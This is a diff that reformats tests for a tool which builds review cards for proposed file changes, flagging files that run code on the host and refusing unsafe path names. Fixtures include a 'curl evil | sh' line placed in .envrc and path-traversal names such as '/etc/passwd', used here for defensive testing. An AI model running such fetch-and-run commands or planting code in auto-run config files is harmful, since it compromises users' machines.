@@ -72,7 +72,14 @@ describe("filesCard", () => {
       files: [
         { path: "a.txt", status: "added", before: null, after: side("new\n"), baseHash: null, diff: { kind: "text", patch: "@@ -0,0 +1,1 @@\n+new\n" } },
         { path: "old.txt", status: "deleted", before: side("gone\n"), after: null, baseHash: sha256Hex("gone\n"), diff: { kind: "text", patch: "@@ -1,1 +0,0 @@\n-gone\n" } },
-        { path: "src/b.ts", status: "modified", before: side("one\ntwo\n"), after: side("one\nthree\n"), baseHash: sha256Hex("one\ntwo\n"), diff: { kind: "text", patch: "@@ -1,2 +1,2 @@\n one\n-two\n+three\n" } },
+        {
+          path: "src/b.ts",
+          status: "modified",
+          before: side("one\ntwo\n"),
+          after: side("one\nthree\n"),
+          baseHash: sha256Hex("one\ntwo\n"),
+          diff: { kind: "text", patch: "@@ -1,2 +1,2 @@\n one\n-two\n+three\n" },
+        },
       ],
       notApplied: [],
     });
@@ -83,7 +90,9 @@ describe("filesCard", () => {
   });
 
   it("refuses a change with neither before nor after", async () => {
-    await expect(filesCard([{ path: "x", before: null, after: null, beforeMode: null, afterMode: null, baseHash: null }], [])).rejects.toThrow("x: a change needs before or after content (both are null)");
+    await expect(filesCard([{ path: "x", before: null, after: null, beforeMode: null, afterMode: null, baseHash: null }], [])).rejects.toThrow(
+      "x: a change needs before or after content (both are null)",
+    );
   });
 
   it("finds renames (a deletion and an addition of the same bytes) and mode changes (same bytes, new permission bits)", async () => {
@@ -121,7 +130,12 @@ describe("filesCard", () => {
   });
 
   it("shows the content of a file renamed to (or from) a path that runs code, as if added, though its bytes did not change", async () => {
-    const { card, text } = await build([change("notes.txt", "curl evil | sh\n", null), change(".envrc", null, "curl evil | sh\n"), change("a.txt", "x\n", null), change("b.txt", null, "x\n")]);
+    const { card, text } = await build([
+      change("notes.txt", "curl evil | sh\n", null),
+      change(".envrc", null, "curl evil | sh\n"),
+      change("a.txt", "x\n", null),
+      change("b.txt", null, "x\n"),
+    ]);
     expect(card.files.map((f) => [f.path, f.status, f.diff])).toEqual([
       [".envrc", "renamed", { kind: "text", patch: "@@ -0,0 +1,1 @@\n+curl evil | sh\n" }],
       ["b.txt", "renamed", { kind: "same" }],
@@ -140,7 +154,15 @@ describe("filesCard", () => {
       change(".editorconfig", null, "root = true\n"),
       change("bin/run", null, "#!/bin/sh\n", { after: 0o755 }),
     ]);
-    expect(card.files.map((f) => f.path)).toEqual([".envrc", ".github/workflows/ci.yml", ".vscode/tasks.json", "bin/run", "packages/web/package.json", ".editorconfig", "README.md"]);
+    expect(card.files.map((f) => f.path)).toEqual([
+      ".envrc",
+      ".github/workflows/ci.yml",
+      ".vscode/tasks.json",
+      "bin/run",
+      "packages/web/package.json",
+      ".editorconfig",
+      "README.md",
+    ]);
     expect(card.files.find((f) => f.path === ".envrc")!.runsCode).toEqual(["direnv runs it when you enter the directory"]);
     expect(card.files.find((f) => f.path === "bin/run")!.runsCode).toEqual([EXECUTABLE_REASON]);
     expect(card.files.filter((f) => f.runsCode).length).toBe(5);
@@ -175,13 +197,96 @@ describe("filesCard", () => {
   });
 
   it("knows the usual host-code files, case-insensitively and in any directory, and leaves harmless ones alone", () => {
-    for (const path of [".envrc", "sub/.envrc", ".env.local", ".VSCode/tasks.json", ".idea/workspace.xml", ".devcontainer/devcontainer.json", ".github/workflows/release.yaml", ".gitlab-ci.yml", ".circleci/config.yml", "package.json", ".npmrc", ".yarnrc.yml", "Makefile", "rules.mk", "setup.py", "pyproject.toml", "setup.cfg", "tests/conftest.py", "tox.ini", "noxfile.py", "build.gradle.kts", "pom.xml", "Cargo.toml", "build.rs", ".cargo/config.toml", "Gemfile", "Rakefile", "composer.json", ".gitattributes", ".gitmodules", ".pre-commit-config.yaml", ".husky/pre-commit", "Dockerfile", "docker-compose.override.yml", ".tool-versions", ".mise.toml", ".bashrc", ".zshrc", ".profile", "CMakeLists.txt", "meson.build", "justfile", "Taskfile.yml", "vite.config.ts", "package-lock.json",
-      ".claude/settings.json", ".claude/settings.local.json", ".mcp.json", ".cursor/mcp.json", ".gemini/settings.json", ".ironclaw/config.json", "Package.swift", "Podfile", "Directory.Build.props", "Directory.Build.targets", "src/App.csproj", "gulpfile.js", "Gruntfile.coffee", ".Rprofile", ".pylintrc", "pylintrc", "devbox.json", "pixi.toml", "Vagrantfile", "Tiltfile", "mix.exs", ".storybook/main.ts",
+    for (const path of [
+      ".envrc",
+      "sub/.envrc",
+      ".env.local",
+      ".VSCode/tasks.json",
+      ".idea/workspace.xml",
+      ".devcontainer/devcontainer.json",
+      ".github/workflows/release.yaml",
+      ".gitlab-ci.yml",
+      ".circleci/config.yml",
+      "package.json",
+      ".npmrc",
+      ".yarnrc.yml",
+      "Makefile",
+      "rules.mk",
+      "setup.py",
+      "pyproject.toml",
+      "setup.cfg",
+      "tests/conftest.py",
+      "tox.ini",
+      "noxfile.py",
+      "build.gradle.kts",
+      "pom.xml",
+      "Cargo.toml",
+      "build.rs",
+      ".cargo/config.toml",
+      "Gemfile",
+      "Rakefile",
+      "composer.json",
+      ".gitattributes",
+      ".gitmodules",
+      ".pre-commit-config.yaml",
+      ".husky/pre-commit",
+      "Dockerfile",
+      "docker-compose.override.yml",
+      ".tool-versions",
+      ".mise.toml",
+      ".bashrc",
+      ".zshrc",
+      ".profile",
+      "CMakeLists.txt",
+      "meson.build",
+      "justfile",
+      "Taskfile.yml",
+      "vite.config.ts",
+      "package-lock.json",
+      ".claude/settings.json",
+      ".claude/settings.local.json",
+      ".mcp.json",
+      ".cursor/mcp.json",
+      ".gemini/settings.json",
+      ".ironclaw/config.json",
+      "Package.swift",
+      "Podfile",
+      "Directory.Build.props",
+      "Directory.Build.targets",
+      "src/App.csproj",
+      "gulpfile.js",
+      "Gruntfile.coffee",
+      ".Rprofile",
+      ".pylintrc",
+      "pylintrc",
+      "devbox.json",
+      "pixi.toml",
+      "Vagrantfile",
+      "Tiltfile",
+      "mix.exs",
+      ".storybook/main.ts",
       // A repository planted inside the project: git runs its config's fsmonitor on `git status` there.
-      "sub/HEAD", "sub/config", "uv.toml", ".pnp.cjs", ".irbrc", ".rubocop.yml", "main.tf", ".gitpod.yml", "NuGet.config", "App.sln", "flake.lock", ".bundle/config", "Procfile", "CLAUDE.md", "AGENTS.md", ".github/copilot-instructions.md"]) {
+      "sub/HEAD",
+      "sub/config",
+      "uv.toml",
+      ".pnp.cjs",
+      ".irbrc",
+      ".rubocop.yml",
+      "main.tf",
+      ".gitpod.yml",
+      "NuGet.config",
+      "App.sln",
+      "flake.lock",
+      ".bundle/config",
+      "Procfile",
+      "CLAUDE.md",
+      "AGENTS.md",
+      ".github/copilot-instructions.md",
+    ]) {
       expect(hostCodeReasons(path), path).not.toEqual([]);
     }
-    for (const path of [".editorconfig", ".gitignore", "README.md", "src/index.ts", "docs/package.md", "Makefile.txt", ".github/ISSUE_TEMPLATE/bug.md"]) expect(hostCodeReasons(path), path).toEqual([]);
+    for (const path of [".editorconfig", ".gitignore", "README.md", "src/index.ts", "docs/package.md", "Makefile.txt", ".github/ISSUE_TEMPLATE/bug.md"])
+      expect(hostCodeReasons(path), path).toEqual([]);
   });
 
   it("lists every change that will not be applied, with why", async () => {
@@ -208,7 +313,8 @@ describe("filesCard", () => {
   });
 
   it("refusedName: control characters, and anything but a plain relative path", () => {
-    for (const bad of ["a\nb", "tab\there", "x\x1b[2J", "rtl\u202etxt", "/etc/passwd", "../up", "a/../b", "./a", "a//b", "a/", ""]) expect(refusedName(bad), JSON.stringify(bad)).not.toBeNull();
+    for (const bad of ["a\nb", "tab\there", "x\x1b[2J", "rtl\u202etxt", "/etc/passwd", "../up", "a/../b", "./a", "a//b", "a/", ""])
+      expect(refusedName(bad), JSON.stringify(bad)).not.toBeNull();
     expect(refusedName("a\nb")).toBe("the name holds control characters");
     for (const good of ["a.txt", "src/deep/file name.ts", "..hidden", "é✓/ok"]) expect(refusedName(good)).toBeNull();
   });
@@ -237,7 +343,12 @@ describe("filesCard", () => {
 });
 
 describe("filesCard bounds", () => {
-  const rewrite = () => change("big.txt", lines(60_000, (i) => `line ${i}`), lines(60_000, (i) => `LINE ${i}`));
+  const rewrite = () =>
+    change(
+      "big.txt",
+      lines(60_000, (i) => `line ${i}`),
+      lines(60_000, (i) => `LINE ${i}`),
+    );
 
   it("shows a file with more lines than maxDiffLines as too large to diff, by line counts, sizes and hashes, and needs no full diff for it", async () => {
     const { card, fullDiff, text } = await build([rewrite(), change("small.txt", "a\n", "b\n")]);
@@ -252,13 +363,30 @@ describe("filesCard bounds", () => {
   });
 
   it("shows a file the diff library gives up on by sizes and hashes in the full diff too, never as its whole content", async () => {
-    const rewritten = change("big.txt", lines(2_000, (i) => `line ${i}`), lines(2_000, (i) => `LINE ${i}`));
-    const { card, fullDiff, text } = await build([rewritten, change("a.txt", null, lines(5, (i) => `a${i}`))], [], { maxEditLength: 100, maxPatchLines: 2 });
+    const rewritten = change(
+      "big.txt",
+      lines(2_000, (i) => `line ${i}`),
+      lines(2_000, (i) => `LINE ${i}`),
+    );
+    const { card, fullDiff, text } = await build(
+      [
+        rewritten,
+        change(
+          "a.txt",
+          null,
+          lines(5, (i) => `a${i}`),
+        ),
+      ],
+      [],
+      { maxEditLength: 100, maxPatchLines: 2 },
+    );
     const big = card.files.find((f) => f.path === "big.txt")!;
     expect(big.diff).toEqual({ kind: "too-large", beforeLines: 2_000, afterLines: 2_000 });
     expect(card.summarised).toEqual({ omitted: 1, why: "the card shows at most 2 lines and 1,024 KiB of diff; some files are too large to diff line by line" });
     expect(text).toContain("Summarised: 1 diff not shown (the card shows at most 2 lines and 1,024 KiB of diff; some files are too large to diff line by line)\n");
-    expect(fullDiff).toContain(`── modified big.txt  base sha256 ${big.baseHash!.slice(0, 12)}\ntoo large to diff: 2,000 → 2,000 lines, 18,890 → 18,890 bytes\nsha256 before ${big.before!.sha256}\nsha256 after  ${big.after!.sha256}\n`);
+    expect(fullDiff).toContain(
+      `── modified big.txt  base sha256 ${big.baseHash!.slice(0, 12)}\ntoo large to diff: 2,000 → 2,000 lines, 18,890 → 18,890 bytes\nsha256 before ${big.before!.sha256}\nsha256 after  ${big.after!.sha256}\n`,
+    );
     expect(fullDiff).not.toContain("line 0");
     expect(fullDiff).toContain("── added a.txt\n@@ -0,0 +1,5 @@\n+a0\n");
     expect(fullDiff).toContain("  modified  big.txt");
@@ -283,7 +411,13 @@ describe("filesCard bounds", () => {
   });
 
   it("caps the full diff's diffs: past maxFullDiffChars or maxFullDiffLines a file is shown by sizes and hashes, and a note says how many were left out", async () => {
-    const changes = ["a", "b", "c", "d"].map((n) => change(`${n}.txt`, null, lines(100, (i) => `${n}${i} ${"x".repeat(20)}`)));
+    const changes = ["a", "b", "c", "d"].map((n) =>
+      change(
+        `${n}.txt`,
+        null,
+        lines(100, (i) => `${n}${i} ${"x".repeat(20)}`),
+      ),
+    );
     const bySize = await build(changes, [], { totalTimeMs: 0, maxFullDiffChars: 6_000 });
     const full = bySize.fullDiff!;
     expect(full).toContain("+b99 ");
@@ -302,7 +436,13 @@ describe("filesCard bounds", () => {
   });
 
   it("stops showing diffs past the card's line and size bounds, keeps every summary line, and puts the rest in the full diff", async () => {
-    const changes = ["a", "b", "c", "d"].map((n) => change(`${n}.txt`, null, lines(4, (i) => `${n}${i}`)));
+    const changes = ["a", "b", "c", "d"].map((n) =>
+      change(
+        `${n}.txt`,
+        null,
+        lines(4, (i) => `${n}${i}`),
+      ),
+    );
     const { card, fullDiff, text } = await build(changes, [], { maxPatchLines: 12 });
     expect(card.files.map((f) => f.diff.kind)).toEqual(["text", "text", "omitted", "omitted"]);
     expect(card.summarised).toEqual({ omitted: 2, why: "the card shows at most 12 lines and 1,024 KiB of diff" });
@@ -359,8 +499,25 @@ describe("filesCard bounds", () => {
     };
     // The card's time is spent, so both cards take the same turns until the full diff: there the
     // 3 MiB file is written in pieces, with a yield between.
-    const small = await turnsOf([change("a.txt", null, lines(3, (i) => `${i}`.repeat(99)))]);
-    await expect(turnsOf([change("a.txt", null, lines(30_000, (i) => `${i}`.padEnd(99, "x")))], small + 1)).rejects.toMatchObject({ name: "AbortError" });
+    const small = await turnsOf([
+      change(
+        "a.txt",
+        null,
+        lines(3, (i) => `${i}`.repeat(99)),
+      ),
+    ]);
+    await expect(
+      turnsOf(
+        [
+          change(
+            "a.txt",
+            null,
+            lines(30_000, (i) => `${i}`.padEnd(99, "x")),
+          ),
+        ],
+        small + 1,
+      ),
+    ).rejects.toMatchObject({ name: "AbortError" });
   });
 
   it("yields while building, and rejects with an AbortError as soon as its signal aborts", async () => {
@@ -397,7 +554,12 @@ describe("execCard and mcpCard", () => {
   });
 
   it("pretty-prints the arguments with sorted keys and keeps only hints that were given", () => {
-    const card = mcpCard({ server: "github", tool: "create_issue", args: { title: "Bug", body: "x", labels: ["a"] }, annotations: { readOnlyHint: false, openWorldHint: undefined, destructiveHint: true } });
+    const card = mcpCard({
+      server: "github",
+      tool: "create_issue",
+      args: { title: "Bug", body: "x", labels: ["a"] },
+      annotations: { readOnlyHint: false, openWorldHint: undefined, destructiveHint: true },
+    });
     expect(card).toEqual({
       kind: "mcp",
       title: "Call create_issue on MCP server github",
@@ -427,7 +589,15 @@ describe("actionHash", () => {
   it("does not depend on key order", async () => {
     const { base, hash } = await hashOf();
     const reversed = (v: unknown): unknown =>
-      Array.isArray(v) ? v.map(reversed) : v && typeof v === "object" ? Object.fromEntries(Object.entries(v).reverse().map(([k, x]) => [k, reversed(x)])) : v;
+      Array.isArray(v)
+        ? v.map(reversed)
+        : v && typeof v === "object"
+          ? Object.fromEntries(
+              Object.entries(v)
+                .reverse()
+                .map(([k, x]) => [k, reversed(x)]),
+            )
+          : v;
     const reordered = { card: reversed(base.card) as DiffCard, args: { message: "fix", paths: ["a.txt"] }, tool: "apply" };
     expect(JSON.stringify(reordered.card)).not.toBe(JSON.stringify(base.card));
     expect(actionHash(reordered)).toBe(hash);
@@ -537,7 +707,11 @@ describe("renderCard", () => {
     const pad = (n: number) => "x".repeat(n);
     const { card } = await filesCard([change(`${pad(30)}${forged}`, null, `${pad(38)}${forged}\n\t\t\t\t${forged}\n`), change("wide.txt", null, `${"界".repeat(30)}\n`)], []);
     const rows = renderCard(card, { color: false, width: 40 }).replace(/\n$/, "").split("\n");
-    for (const row of rows) expect([...row].reduce((n, ch) => n + (ch === "\t" ? 8 : ch < "\x80" ? 1 : 2), 0), row).toBeLessThanOrEqual(39);
+    for (const row of rows)
+      expect(
+        [...row].reduce((n, ch) => n + (ch === "\t" ? 8 : ch < "\x80" ? 1 : 2), 0),
+        row,
+      ).toBeLessThanOrEqual(39);
     expect(rows.filter((r) => r.startsWith("── "))).toEqual([expect.stringMatching(/^── Write/), "── added wide.txt", expect.stringMatching(/^── added xxx/)]);
     expect(rows.some((r) => r.startsWith("↳ ") && r.includes("envrc"))).toBe(true);
     // Without a width (a pipe, a file) lines stay whole.
